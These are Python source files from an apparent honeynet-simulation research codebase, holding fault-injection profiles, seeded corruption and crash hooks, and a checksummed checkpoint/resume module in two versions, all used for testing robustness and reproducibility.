                raise ValueError(f"{name} must be in [0, 1), got {value}")
        if self.failure_probability + self.corruption_probability >= 1.0:
            raise ValueError("combined attempt-failure probability must be < 1")
        if self.max_attempts < 1:
            raise ValueError("max_attempts must be at least 1")
        if self.backoff_base_s < 0 or self.backoff_cap_s < self.backoff_base_s:
            raise ValueError("need 0 <= backoff_base_s <= backoff_cap_s")

    @property
    def lossless(self) -> bool:
        """True when the channel can neither fail nor duplicate."""
        return (
            self.failure_probability == 0.0
            and self.corruption_probability == 0.0
            and self.duplicate_probability == 0.0
        )


@dataclass(frozen=True)
class FloodFaults:
    """Overload model: bursty scanning floods and bounded ingest.

    Real honeynet arrivals are heavy-tailed: most days are steady scan
    background, but some days a scanning campaign multiplies the volume.
    This knob set injects those days and bounds what the collector may
    absorb:

    * ``burst_probability`` — each calendar day independently hosts a
      scan flood with this probability (seeded per day ordinal, so the
      same seed floods the same days in every engine).
    * ``burst_sessions`` — extra scanner no-op sessions injected on a
      flood day, spread across the fleet.
    * ``daily_session_budget`` — fleet-wide admission budget: how many
      records the collector may admit per calendar day before the
      load-shedding policy engages (``None`` disables admission control
      entirely — the pre-overload pipeline, byte for byte).
    * ``sensor_queue_capacity`` — bounded per-sensor deferral queue for
      over-budget records worth keeping; overflow is shed.
    * ``shed_probability`` — over budget, a command session (priority 1)
      is shed with this probability and deferred otherwise; the decision
      is seeded per session id, so it is independent of delivery order.

    The field is declared with ``repr=False`` on :class:`FaultProfile`
    so an inert flood leaves ``repr(profile)`` — and therefore every
    checkpoint fingerprint written before this knob existed — unchanged;
    an *active* flood is folded into the fingerprint explicitly by
    :func:`repro.faults.checkpoint.config_fingerprint`.
    """

    burst_probability: float = 0.0
    burst_sessions: int = 0
    daily_session_budget: int | None = None
    sensor_queue_capacity: int = 8
    shed_probability: float = 0.5

    def __post_init__(self) -> None:
        for name in ("burst_probability", "shed_probability"):
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(f"{name} must be in [0, 1], got {value}")
        if self.burst_sessions < 0:
            raise ValueError("burst_sessions must be non-negative")
        if self.daily_session_budget is not None and self.daily_session_budget < 0:
            raise ValueError("daily_session_budget must be non-negative")
        if self.sensor_queue_capacity < 0:
            raise ValueError("sensor_queue_capacity must be non-negative")

    @property
    def inert(self) -> bool:
        """True when neither bursts nor admission control can engage."""
        return (
            (self.burst_probability == 0.0 or self.burst_sessions == 0)
            and self.daily_session_budget is None
        )

    @property
    def floods(self) -> bool:
        """True when flood days can inject extra arrivals."""
        return self.burst_probability > 0.0 and self.burst_sessions > 0

    @property
    def gates(self) -> bool:
        """True when the admission budget is bounded."""
        return self.daily_session_budget is not None

    @classmethod
    def from_name(cls, name: str) -> "FloodFaults":
        """Resolve a named flood preset (CLI ``--flood-profile``).

        ``off`` is the inert default; ``burst`` floods roughly one day
        in four past a budget the steady background rarely reaches, so
        shedding concentrates on flood days; ``storm`` floods most days
        against a budget *below* the bench-scale background volume and a
        shallow queue, so every day over-runs — exercising deferral of
        state-carrying sessions as well as aggressive shedding.
        """
        presets = {
            "off": cls,
            "burst": lambda: cls(
                burst_probability=0.3,
                burst_sessions=500,
                daily_session_budget=200,
                sensor_queue_capacity=8,
                shed_probability=0.4,
            ),
            "storm": lambda: cls(
                burst_probability=0.7,
                burst_sessions=1500,
                daily_session_budget=60,
                sensor_queue_capacity=4,
                shed_probability=0.7,
            ),
        }
        try:
            return presets[name]()
        except KeyError:
            known = ", ".join(sorted(presets))
            raise ValueError(
                f"unknown flood profile {name!r} (known: {known})"
            ) from None


@dataclass(frozen=True)
class IntegrityFaults:
    """Corruption/crash model for persisted artifacts and shard workers.

    Where :class:`TransportFaults` loses records in flight, these faults
    damage what has already been *persisted* or kill the process doing
    the persisting — the failure modes a long-running deployment meets
    on disk rather than on the wire:

    * ``checkpoint_corruption_probability`` — each saved checkpoint file
      is bit-flipped or truncated with this probability (resume must
      fall back to the newest valid generation).
    * ``line_mangle_probability`` — each exported session-log line is
      mangled (character flip or truncation) with this probability; the
      per-line checksum quarantines it on read.
    * ``line_duplicate_probability`` — each exported line is written
      twice (at-least-once delivery of the log shipper); the sequence
      number dedups it losslessly.
    * ``line_reorder_probability`` — adjacent exported lines are swapped
      with this probability (out-of-order delivery); the sequence number
      restores the order losslessly.
    * ``worker_crash_probability`` — each parallel shard attempt dies
      mid-run with this probability (the engine retries, then falls
      back to serial execution for that shard).
    * ``worker_hang_probability`` — each parallel shard attempt *stalls*
      mid-run with this probability: the worker stops making progress
      for ``worker_hang_seconds`` and then dies like a crash.  With a
      shard deadline configured
      (:attr:`repro.config.SimulationConfig.shard_deadline_s`), the
      hung-worker watchdog cancels the attempt at the hard deadline
      instead of waiting the stall out.
    * ``index_corruption_probability`` — each built ``index.sqlite``
      artifact (:mod:`repro.store`) is damaged with this probability:
      a bit-flipped page, a truncated file, or rows silently dropped so
      the index desyncs from its shards.  The index is derived data, so
      consumers must degrade to the shard-scan path and ``repro verify
      --rebuild-index`` must repair it — never a crash, never a wrong
      answer.

    All decisions are drawn from seed-derived streams keyed by artifact
    and attempt, never from the simulation's record streams, so enabling
    corruption cannot change what a fault-free run would have produced.
    The hang and index fields are declared ``repr=False``: a hang only
    stalls the execution engine and index damage only degrades queries
    to the scan path — the recovered output is byte-identical — so,
    like the ``workers`` knob, they stay out of ``repr(profile)`` and
    therefore out of checkpoint fingerprints.
    """

    checkpoint_corruption_probability: float = 0.0
    line_mangle_probability: float = 0.0
    line_duplicate_probability: float = 0.0
    line_reorder_probability: float = 0.0
    worker_crash_probability: float = 0.0
    worker_hang_probability: float = field(default=0.0, repr=False)
    worker_hang_seconds: float = field(default=0.05, repr=False)
    index_corruption_probability: float = field(default=0.0, repr=False)

    def __post_init__(self) -> None:
        for name in (
            "checkpoint_corruption_probability",
            "line_mangle_probability",
            "line_duplicate_probability",
            "line_reorder_probability",
        ):
            value = getattr(self, name)
            if not 0.0 <= value < 1.0:
                raise ValueError(f"{name} must be in [0, 1), got {value}")
        # A certain crash, hang or index corruption is a legitimate
        # schedule — it forces the serial fallback / watchdog ladder /
        # scan fallback every time — so these admit 1.0.
        for name in (
            "worker_crash_probability",
            "worker_hang_probability",
            "index_corruption_probability",
        ):
            value = getattr(self, name)
            if not 0.0 <= value <= 1.0:
                raise ValueError(
                    f"{name} must be in [0, 1], got {value}"
                )
        if self.worker_hang_seconds < 0:
            raise ValueError("worker_hang_seconds must be non-negative")
        if self.line_mangle_probability + self.line_duplicate_probability >= 1.0:
            raise ValueError("combined per-line corruption probability must be < 1")

    @property
    def inert(self) -> bool:
        """True when no corruption, crash or hang can ever be injected."""
        return (
            self.checkpoint_corruption_probability == 0.0
            and self.line_mangle_probability == 0.0
            and self.line_duplicate_probability == 0.0
            and self.line_reorder_probability == 0.0
            and self.worker_crash_probability == 0.0
            and self.worker_hang_probability == 0.0
            and self.index_corruption_probability == 0.0
        )

    @property
    def corrupts_lines(self) -> bool:
        return (
            self.line_mangle_probability > 0.0
            or self.line_duplicate_probability > 0.0
            or self.line_reorder_probability > 0.0
        )


@dataclass(frozen=True)
class FaultProfile:
    """Declarative fault configuration for one simulation run.

    Attributes:
        name: label used by the CLI and reports.
        outages: fleet-wide collection outages (inclusive date windows).
            Generalizes the hardcoded October 2023 window; the default
            profile carries exactly that one.
        crashes_per_sensor_year: expected number of crash/restart events
            per honeypot per year of observation (Poisson).
        crash_downtime_mean_days: mean downtime per crash, in days
            (exponential, rounded up to at least one full day — faults
            apply at day granularity, like the outage windows).
        transport: loss model for the collection path.
        integrity: corruption/crash model for persisted artifacts and
            shard workers (:class:`IntegrityFaults`).
        flood: overload model — bursty scan floods plus the admission
            budget that sheds them (:class:`FloodFaults`).  Orthogonal
            to the named profiles: the CLI composes it onto any of them
            via ``--flood-profile``.  Declared ``repr=False`` so the
            inert default keeps ``repr(profile)`` — and the checkpoint
            fingerprints derived from it — byte-identical to the
            pre-overload format.
    """

    name: str = "paper"
    outages: tuple[OutageWindow, ...] = (PAPER_OUTAGE,)
    crashes_per_sensor_year: float = 0.0
    crash_downtime_mean_days: float = 2.0
    transport: TransportFaults = field(default_factory=TransportFaults)
    integrity: IntegrityFaults = field(default_factory=IntegrityFaults)
    flood: FloodFaults = field(default_factory=FloodFaults, repr=False)

    def __post_init__(self) -> None:
        if self.crashes_per_sensor_year < 0:
            raise ValueError("crashes_per_sensor_year must be non-negative")
        if self.crash_downtime_mean_days <= 0:
            raise ValueError("crash_downtime_mean_days must be positive")

    @property
    def has_churn(self) -> bool:
        return self.crashes_per_sensor_year > 0

    @classmethod
    def none(cls) -> "FaultProfile":
        """A perfect instrument: no outages, no churn, lossless path."""
        return cls(name="none", outages=())

    @classmethod
    def paper(cls) -> "FaultProfile":
        """Exactly the paper's deployment: the one 48-hour outage.

        This is the default profile; it reproduces the pre-fault-model
        pipeline byte for byte.
        """
        return cls()

    @classmethod
    def stress(cls) -> "FaultProfile":
        """A deliberately unreliable deployment for robustness testing.

        Adds a second fleet outage, realistic sensor churn (about two
        crashes per sensor-year, ~2 days down each) and a lossy
        collection path with retries.  Aggregate loss stays in the
        low single-digit percents so the paper's distributional
        findings must still hold.

        On top of the loss model, the integrity knobs corrupt what gets
        *persisted*: one saved checkpoint in four is bit-flipped or
        truncated, a few percent of exported log lines are mangled,
        duplicated or reordered, one built artifact index in four is
        damaged or desynced, and parallel shard workers crash or
        briefly hang mid-run — exercising generation fallback,
        quarantine-and-recover, the crash-tolerant engine, the
        hung-worker watchdog ladder and the index scan-fallback on
        every stress-profile test.
        """
        return cls(
            name="stress",
            outages=(
                PAPER_OUTAGE,
                OutageWindow(date(2022, 6, 14), date(2022, 6, 15)),
            ),
            crashes_per_sensor_year=2.0,
            crash_downtime_mean_days=2.0,
            transport=TransportFaults(
                failure_probability=0.04,
                corruption_probability=0.01,
                duplicate_probability=0.03,
                max_attempts=4,
            ),
            integrity=IntegrityFaults(
                checkpoint_corruption_probability=0.25,
                line_mangle_probability=0.02,
                line_duplicate_probability=0.02,
                line_reorder_probability=0.02,
                worker_crash_probability=0.2,
                worker_hang_probability=0.15,
                worker_hang_seconds=0.05,
                index_corruption_probability=0.25,
            ),
        )

    @classmethod
    def from_name(cls, name: str) -> "FaultProfile":
        """Resolve a named profile (CLI ``--fault-profile``)."""
        profiles = {
            "none": cls.none,
            "paper": cls.paper,
            "stress": cls.stress,
        }
        try:
            return profiles[name]()
        except KeyError:
            known = ", ".join(sorted(profiles))
            raise ValueError(
                f"unknown fault profile {name!r} (known: {known})"
            ) from None


@dataclass(frozen=True)
class SensorDowntime:
    """One crash/restart window of one honeypot (inclusive dates)."""

    honeypot_id: str
    start: date
    end: date

    @property
    def days(self) -> int:
        return (self.end - self.start).days + 1


@dataclass(frozen=True)
class FaultPlan:
    """A compiled, concrete fault schedule for one run."""

    profile: FaultProfile
    start: date
    end: date
    honeypot_ids: tuple[str, ...]
    downtimes: tuple[SensorDowntime, ...]
    #: ``(honeypot_id, day.toordinal())`` pairs on which that sensor
    #: recorded nothing.  The hot-path membership set for the collector.
    sensor_down_days: frozenset[tuple[str, int]]

    @property
    def outage_days(self) -> int:
        """Fleet-wide dark days that intersect the window."""
        return sum(
            1
            for window in self.profile.outages
            for offset in range(window.days)
            if self.start <= window.start + timedelta(days=offset) <= self.end
        )

    @property
    def sensor_down_day_count(self) -> int:
        return len(self.sensor_down_days)


def _sensor_downtimes(
    profile: FaultProfile,
    honeypot_ids: Sequence[str],
    start: date,
    end: date,
    tree: RngTree,
) -> list[SensorDowntime]:
    """Sample every sensor's crash windows from per-sensor streams."""
    window_days = (end - start).days + 1
    expected = profile.crashes_per_sensor_year * window_days / 365.25
    downtimes: list[SensorDowntime] = []
    for honeypot_id in honeypot_ids:
        rng = tree.child("churn", honeypot_id).rand()
        for _ in range(poisson(rng, expected)):
            first = start + timedelta(days=rng.randrange(window_days))
            duration = max(
                1, round(rng.expovariate(1.0 / profile.crash_downtime_mean_days))
            )
            last = min(end, first + timedelta(days=duration - 1))
            downtimes.append(SensorDowntime(honeypot_id, first, last))
    return downtimes


def compile_fault_plan(
    profile: FaultProfile,
    honeypot_ids: Iterable[str],
    start: date,
    end: date,
    tree: RngTree,
) -> FaultPlan:
    """Turn a profile into the concrete schedule for one run.

    Deterministic: the same ``(profile, honeypot_ids, window, tree)``
    always yields the same plan, independent of call order elsewhere.
    """
    ids = tuple(honeypot_ids)
    downtimes: list[SensorDowntime] = []
    if profile.has_churn:
        downtimes = _sensor_downtimes(profile, ids, start, end, tree)
    down_days = frozenset(
        (downtime.honeypot_id, downtime.start.toordinal() + offset)
        for downtime in downtimes
        for offset in range(downtime.days)
    )
    return FaultPlan(
        profile=profile,
        start=start,
        end=end,
        honeypot_ids=ids,
        downtimes=tuple(downtimes),
        sensor_down_days=down_days,
    )
