"""Checkpoint/resume for the orchestrator day-loop.

Every mutable piece of simulation state that influences the final
dataset lives in exactly two places: the collector (stored sessions,
dead letters, accounting counters) and each honeypot's session counter
(session ids embed it).  Everything else — populations, bots, fault
plans, per-day random streams — is a pure function of the master seed
and the calendar date, so a killed run can be resumed by restoring
those two pieces and fast-forwarding the day cursor.  The resumed run
produces a byte-identical dataset digest.

The checkpoint is one JSON document written atomically (temp file +
fsync + rename).  It embeds a fingerprint of the producing
configuration; loading it under a different configuration fails loudly
instead of silently mixing incompatible state.

Since format version 2 the checkpoint is also *self-verifying* and
*rotated*:

* every serialized session record carries a content checksum, and every
  top-level section (counters, honeypot counters, sessions, dead
  letters) carries a section checksum — a bit-flip that still parses as
  JSON is detected, not resumed from;
* each save rotates the previous generations (``run.ckpt`` →
  ``run.ckpt.1`` → ``run.ckpt.2``, keeping :data:`CHECKPOINT_GENERATIONS`
  files), and :func:`load_latest_checkpoint` resumes from the newest
  generation that validates, reporting every one it had to reject.  A
  corrupted checkpoint therefore costs re-simulated days, never a wrong
  dataset.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING

from repro.integrity.checksums import seal, section_checksum
from repro.util.fsio import atomic_write_text
from repro.util.hashing import sha256_hex

# NOTE: repro.honeynet.io is imported inside the (de)serialization
# functions: importing it at module level would run the repro.honeynet
# package __init__, which reaches repro.config — and repro.config
# imports this package to embed FaultProfile.

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.config import SimulationConfig
    from repro.faults.corruption import CheckpointCorruptor
    from repro.honeynet.collector import Collector
    from repro.honeynet.deployment import Honeynet

#: Format version written into every checkpoint.
CHECKPOINT_VERSION = 2

#: How many checkpoint generations are kept on disk (newest first:
#: ``path``, ``path.1``, ``path.2``).
CHECKPOINT_GENERATIONS = 3

#: Counter names serialized from / restored into the collector.
_COUNTER_KEYS = (
    "generated",
    "dropped_outage",
    "dropped_sensor_down",
    "retried",
    "deduplicated",
    "dead_lettered",
    "quarantined",
)

#: Admission-gate counters.  Serialized only when nonzero, so a run
#: with no gate (or one that never engaged) writes byte-identical
#: checkpoints to the pre-overload format; restore tolerates absence.
_OVERLOAD_COUNTER_KEYS = ("admitted", "shed", "deferred")

#: Document sections covered by per-section checksums.
_SECTIONS = ("honeypot_counters", "counters", "sessions", "dead_letters")


class CheckpointError(ValueError):
    """Raised for malformed, incompatible or mismatched checkpoints.

    Carries the offending ``path`` and a stable ``reason`` slug
    (``unreadable``, ``unsupported-version``, ``section-checksum``,
    ``config-mismatch``, ``malformed``) so recovery code can tell a
    corrupt generation (skippable) from a config mismatch (fatal).
    """

    def __init__(
        self,
        message: str,
        *,
        path: Path | str | None = None,
        reason: str | None = None,
    ) -> None:
        super().__init__(message)
        self.path = str(path) if path is not None else None
        self.reason = reason


def config_fingerprint(config: "SimulationConfig") -> str:
    """A stable digest of every config field that shapes the dataset."""
    payload = {
        "seed": config.seed,
        "scale": config.scale,
        "start": config.start.isoformat(),
        "end": config.end.isoformat(),
        "n_honeypots": config.n_honeypots,
        "n_countries": config.n_countries,
        "n_honeypot_ases": config.n_honeypot_ases,
        "session_timeout_s": config.session_timeout_s,
        "include_telnet": config.include_telnet,
        "faults": repr(config.faults),
    }
    # FloodFaults is declared repr=False on FaultProfile, so an inert
    # flood keeps the payload — and every pre-overload fingerprint —
    # unchanged; an active flood shapes the dataset and must mismatch.
    # (workers and shard_deadline_s are execution knobs: excluded.)
    if not config.faults.flood.inert:
        payload["flood"] = repr(config.faults.flood)
    return sha256_hex(json.dumps(payload, sort_keys=True))


@dataclass
class Checkpoint:
    """A deserialized mid-window snapshot."""

    fingerprint: str
    next_day: date
    honeypot_counters: dict[str, int]
    counters: dict[str, int]
    sessions: list
    dead_letters: list
    #: Supervision state written by a *degraded* supervised stream run
    #: (:mod:`repro.stream.engine`); None for batch checkpoints and for
    #: supervised checkpoints taken in the pristine state.
    stream: dict | None = None


def checkpoint_generations(path: Path | str) -> list[Path]:
    """Candidate files for ``path``'s rotation scheme, newest first."""
    path = Path(path)
    return [path] + [
        path.with_name(f"{path.name}.{generation}")
        for generation in range(1, CHECKPOINT_GENERATIONS)
    ]


def has_checkpoint(path: Path | str) -> bool:
    """Does any generation exist for ``path``?"""
    return any(candidate.exists() for candidate in checkpoint_generations(path))


def _rotate_generations(path: Path) -> None:
    """Shift existing generations down one slot (oldest falls off)."""
    candidates = checkpoint_generations(path)
    for older, newer in zip(reversed(candidates), reversed(candidates[:-1])):
        if newer.exists():
            os.replace(newer, older)


def save_checkpoint(
    path: Path | str,
    config: "SimulationConfig",
    next_day: date,
    honeynet: "Honeynet",
    collector: "Collector",
    *,
    corruptor: "CheckpointCorruptor | None" = None,
    stream_state: dict | None = None,
) -> None:
    """Atomically write the full resumable state to ``path``.

    ``next_day`` is the first day the resumed loop should simulate.
    The previous file (and its predecessors) are rotated into numbered
    generations first, so a save that later turns out corrupt never
    destroys the last good snapshot.  ``corruptor`` is the fault hook:
    when set, the freshly written file may be damaged in place
    (:class:`~repro.faults.corruption.CheckpointCorruptor`).

    ``stream_state``: the supervision snapshot of a degraded stream run
    (:mod:`repro.stream.engine`).  It is an *optional* checksummed
    section — absent entirely when ``None``, so batch checkpoints and
    pristine supervised checkpoints stay byte-identical.
    """
    from repro.honeynet.io import session_to_dict

    counters = {key: getattr(collector, key) for key in _COUNTER_KEYS}
    for key in _OVERLOAD_COUNTER_KEYS:
        value = getattr(collector, key)
        if value:
            counters[key] = value
    sections = {
        "honeypot_counters": {
            honeypot.honeypot_id: honeypot._counter
            for honeypot in honeynet.honeypots
            if honeypot._counter
        },
        "counters": counters,
        "sessions": [seal(session_to_dict(s)) for s in collector.sessions],
        "dead_letters": [
            seal(session_to_dict(s)) for s in collector.dead_letters
        ],
    }
    if stream_state is not None:
        sections["stream"] = stream_state
    document = {
        "v": CHECKPOINT_VERSION,
        "fingerprint": config_fingerprint(config),
        "next_day": next_day.isoformat(),
        "checksums": {
            name: section_checksum(section)
            for name, section in sections.items()
        },
        **sections,
    }
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    _rotate_generations(path)
    atomic_write_text(path, json.dumps(document))
    if corruptor is not None:
        corruptor.maybe_corrupt(path, key=next_day.toordinal())


def _read_document(path: Path | str) -> dict:
    try:
        document = json.loads(Path(path).read_text(encoding="utf-8"))
    except (OSError, ValueError) as error:
        # ValueError covers both JSONDecodeError and UnicodeDecodeError
        # (a flipped bit can break UTF-8 before it breaks JSON).
        raise CheckpointError(
            f"unreadable checkpoint {path}: {error}",
            path=path,
            reason="unreadable",
        ) from error
    if not isinstance(document, dict):
        raise CheckpointError(
            f"unreadable checkpoint {path}: not a JSON object",
            path=path,
            reason="unreadable",
        )
    return document


def _validate_document(document: dict, path: Path | str) -> None:
    version = document.get("v")
    if version != CHECKPOINT_VERSION:
        raise CheckpointError(
            f"unsupported checkpoint version: {version!r}",
            path=path,
            reason="unsupported-version",
        )
    checksums = document.get("checksums")
    if not isinstance(checksums, dict):
        raise CheckpointError(
            f"malformed checkpoint: missing section checksums in {path}",
            path=path,
            reason="malformed",
        )
    for name in _SECTIONS:
        if name not in document:
            raise CheckpointError(
                f"malformed checkpoint: missing section {name!r} in {path}",
                path=path,
                reason="malformed",
            )
        if section_checksum(document[name]) != checksums.get(name):
            raise CheckpointError(
                f"checkpoint section {name!r} failed its checksum in {path}",
                path=path,
                reason="section-checksum",
            )
    # The stream section is optional (only degraded supervised runs
    # write one) but checksummed like any other when present.
    if "stream" in document and (
        section_checksum(document["stream"]) != checksums.get("stream")
    ):
        raise CheckpointError(
            f"checkpoint section 'stream' failed its checksum in {path}",
            path=path,
            reason="section-checksum",
        )


def _checkpoint_from_document(document: dict, path: Path | str) -> Checkpoint:
    from repro.honeynet.io import SessionLogError, session_from_dict

    try:
        return Checkpoint(
            fingerprint=document.get("fingerprint", ""),
            next_day=date.fromisoformat(document["next_day"]),
            honeypot_counters={
                str(key): int(value)
                for key, value in document["honeypot_counters"].items()
            },
            counters={
                key: int(document["counters"].get(key, 0))
                for key in _COUNTER_KEYS + _OVERLOAD_COUNTER_KEYS
            },
            sessions=[session_from_dict(p) for p in document["sessions"]],
            dead_letters=[
                session_from_dict(p) for p in document["dead_letters"]
            ],
            stream=document.get("stream"),
        )
    except (KeyError, TypeError, ValueError, SessionLogError) as error:
        raise CheckpointError(
            f"malformed checkpoint: {error}", path=path, reason="malformed"
        ) from error


def audit_checkpoint(path: Path | str) -> str | None:
    """Structural validity of one checkpoint file, without a config.

    Returns ``None`` when the file parses, passes every section and
    record checksum, and deserializes; otherwise the problem as text.
    Used by ``repro verify``, which audits trees it has no
    :class:`~repro.config.SimulationConfig` for.
    """
    try:
        document = _read_document(path)
        _validate_document(document, path)
        _checkpoint_from_document(document, path)
    except CheckpointError as error:
        return str(error)
    return None


def read_checkpoint_counters(path: Path | str) -> dict[str, int] | None:
    """The accounting counters of one checkpoint, without a config.

    Returns the counter dict (every known key, absent ones as 0) plus a
    ``stored`` entry derived from the sessions section, or ``None`` when
    the file fails structural validation.  Used by ``repro verify`` to
    audit the conservation law — including shed totals — over
    checkpoint trees it has no :class:`~repro.config.SimulationConfig`
    for.
    """
    try:
        document = _read_document(path)
        _validate_document(document, path)
        checkpoint = _checkpoint_from_document(document, path)
    except CheckpointError:
        return None
    counters = dict(checkpoint.counters)
    counters["stored"] = len(checkpoint.sessions)
    return counters


def load_checkpoint(path: Path | str, config: "SimulationConfig") -> Checkpoint:
    """Read and validate one checkpoint file written for ``config``."""
    document = _read_document(path)
    _validate_document(document, path)
    fingerprint = document.get("fingerprint", "")
    expected = config_fingerprint(config)
    if fingerprint != expected:
        raise CheckpointError(
            "checkpoint was written by a different configuration "
            f"(fingerprint {fingerprint[:12]}… != expected {expected[:12]}…)",
            path=path,
            reason="config-mismatch",
        )
    return _checkpoint_from_document(document, path)


def load_latest_checkpoint(
    path: Path | str, config: "SimulationConfig"
) -> tuple[Checkpoint | None, list[str]]:
    """Resume state from the newest *valid* generation of ``path``.

    Walks ``path``, ``path.1``, ``path.2`` … newest first, skipping
    generations that are unreadable or fail their checksums.  Returns
    ``(checkpoint, rejected)`` where ``rejected`` lists one message per
    generation that had to be skipped — callers must surface these
    loudly.  Returns ``(None, rejected)`` when no generation survives
    (the caller starts fresh).  A generation written by a *different
    configuration* is never skipped over: that raises, because silently
    resuming past it could mix state from two different runs.
    """
    rejected: list[str] = []
    for candidate in checkpoint_generations(path):
        if not candidate.exists():
            continue
        try:
            return load_checkpoint(candidate, config), rejected
        except CheckpointError as error:
            if error.reason == "config-mismatch":
                raise
            rejected.append(str(error))
    return None, rejected


def restore_state(
    checkpoint: Checkpoint, honeynet: "Honeynet", collector: "Collector"
) -> date:
    """Apply a checkpoint; returns the first day left to simulate."""
    collector.restore(
        checkpoint.sessions, checkpoint.dead_letters, checkpoint.counters
    )
    for honeypot_id, counter in checkpoint.honeypot_counters.items():
        honeynet.by_id(honeypot_id)._counter = counter
    return checkpoint.next_day
