"""Checkpoint/resume for the orchestrator day-loop.

Every mutable piece of simulation state that influences the final
dataset lives in exactly two places: the collector (stored sessions,
dead letters, accounting counters) and each honeypot's session counter
(session ids embed it).  Everything else — populations, bots, fault
plans, per-day random streams — is a pure function of the master seed
and the calendar date, so a killed run can be resumed by restoring
those two pieces and fast-forwarding the day cursor.  The resumed run
produces a byte-identical dataset digest.

The checkpoint is one JSON document written atomically (temp file +
rename).  It embeds a fingerprint of the producing configuration;
loading it under a different configuration fails loudly instead of
silently mixing incompatible state.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING

from repro.honeypot.session import SessionRecord
from repro.util.hashing import sha256_hex

# NOTE: repro.honeynet.io is imported inside the (de)serialization
# functions: importing it at module level would run the repro.honeynet
# package __init__, which reaches repro.config — and repro.config
# imports this package to embed FaultProfile.

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.config import SimulationConfig
    from repro.honeynet.collector import Collector
    from repro.honeynet.deployment import Honeynet

#: Format version written into every checkpoint.
CHECKPOINT_VERSION = 1

#: Counter names serialized from / restored into the collector.
_COUNTER_KEYS = (
    "generated",
    "dropped_outage",
    "dropped_sensor_down",
    "retried",
    "deduplicated",
    "dead_lettered",
)


class CheckpointError(ValueError):
    """Raised for malformed, incompatible or mismatched checkpoints."""


def config_fingerprint(config: "SimulationConfig") -> str:
    """A stable digest of every config field that shapes the dataset."""
    payload = {
        "seed": config.seed,
        "scale": config.scale,
        "start": config.start.isoformat(),
        "end": config.end.isoformat(),
        "n_honeypots": config.n_honeypots,
        "n_countries": config.n_countries,
        "n_honeypot_ases": config.n_honeypot_ases,
        "session_timeout_s": config.session_timeout_s,
        "include_telnet": config.include_telnet,
        "faults": repr(config.faults),
    }
    return sha256_hex(json.dumps(payload, sort_keys=True))


@dataclass
class Checkpoint:
    """A deserialized mid-window snapshot."""

    fingerprint: str
    next_day: date
    honeypot_counters: dict[str, int]
    counters: dict[str, int]
    sessions: list[SessionRecord]
    dead_letters: list[SessionRecord]


def save_checkpoint(
    path: Path | str,
    config: "SimulationConfig",
    next_day: date,
    honeynet: "Honeynet",
    collector: Collector,
) -> None:
    """Atomically write the full resumable state to ``path``.

    ``next_day`` is the first day the resumed loop should simulate.
    """
    from repro.honeynet.io import session_to_dict

    document = {
        "v": CHECKPOINT_VERSION,
        "fingerprint": config_fingerprint(config),
        "next_day": next_day.isoformat(),
        "honeypot_counters": {
            honeypot.honeypot_id: honeypot._counter
            for honeypot in honeynet.honeypots
            if honeypot._counter
        },
        "counters": {
            key: getattr(collector, key) for key in _COUNTER_KEYS
        },
        "sessions": [session_to_dict(s) for s in collector.sessions],
        "dead_letters": [session_to_dict(s) for s in collector.dead_letters],
    }
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    temp = path.with_name(path.name + ".tmp")
    temp.write_text(json.dumps(document), encoding="utf-8")
    os.replace(temp, path)


def load_checkpoint(path: Path | str, config: "SimulationConfig") -> Checkpoint:
    """Read and validate a checkpoint written for ``config``."""
    from repro.honeynet.io import session_from_dict

    try:
        document = json.loads(Path(path).read_text(encoding="utf-8"))
    except (OSError, json.JSONDecodeError) as error:
        raise CheckpointError(f"unreadable checkpoint {path}: {error}") from error
    version = document.get("v")
    if version != CHECKPOINT_VERSION:
        raise CheckpointError(f"unsupported checkpoint version: {version!r}")
    fingerprint = document.get("fingerprint", "")
    expected = config_fingerprint(config)
    if fingerprint != expected:
        raise CheckpointError(
            "checkpoint was written by a different configuration "
            f"(fingerprint {fingerprint[:12]}… != expected {expected[:12]}…)"
        )
    try:
        return Checkpoint(
            fingerprint=fingerprint,
            next_day=date.fromisoformat(document["next_day"]),
            honeypot_counters={
                str(key): int(value)
                for key, value in document["honeypot_counters"].items()
            },
            counters={
                key: int(document["counters"].get(key, 0))
                for key in _COUNTER_KEYS
            },
            sessions=[session_from_dict(p) for p in document["sessions"]],
            dead_letters=[
                session_from_dict(p) for p in document["dead_letters"]
            ],
        )
    except (KeyError, TypeError, ValueError) as error:
        raise CheckpointError(f"malformed checkpoint: {error}") from error


def restore_state(
    checkpoint: Checkpoint, honeynet: "Honeynet", collector: Collector
) -> date:
    """Apply a checkpoint; returns the first day left to simulate."""
    collector.restore(
        checkpoint.sessions, checkpoint.dead_letters, checkpoint.counters
    )
    for honeypot_id, counter in checkpoint.honeypot_counters.items():
        honeynet.by_id(honeypot_id)._counter = counter
    return checkpoint.next_day
