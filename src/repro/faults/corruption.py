"""Seeded corruption and crash events for persisted artifacts.

The loss model (:mod:`repro.faults.transport`) breaks records *in
flight*; this module breaks what has already been written — checkpoint
files on disk, session-log lines in an export stream — and kills shard
workers mid-run.  Like every other fault, the events are drawn from
seed-derived :class:`~repro.util.rng.RngTree` streams keyed by artifact
and attempt, so the same seed corrupts the same bytes every run and the
simulation's own record streams are never perturbed.

This module must not import :mod:`repro.config` (the config module
embeds :class:`~repro.faults.plan.FaultProfile`, which carries our
:class:`~repro.faults.plan.IntegrityFaults` knobs).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from pathlib import Path

from repro import telemetry
from repro.faults.plan import IntegrityFaults
from repro.util.rng import RngTree


class WorkerCrash(RuntimeError):
    """An injected shard-worker death (simulated process crash).

    Raised inside a worker; the parallel engine treats it exactly like a
    real crash: the shard's partial output is discarded, the shard is
    deterministically re-executed, and bounded retries fall back to
    serial in-process execution.
    """


class WorkerHang(RuntimeError):
    """An injected shard-worker stall (simulated hung process).

    The worker stops making progress for the fault's configured stall
    time and then dies like a crash, freeing its pool slot.  The
    parallel engine treats the eventual death exactly like a
    :class:`WorkerCrash`; with a shard deadline configured, the
    hung-worker watchdog cancels the attempt at the hard deadline
    instead of waiting the stall out.
    """


def crash_point(
    faults: IntegrityFaults | None,
    seed: int,
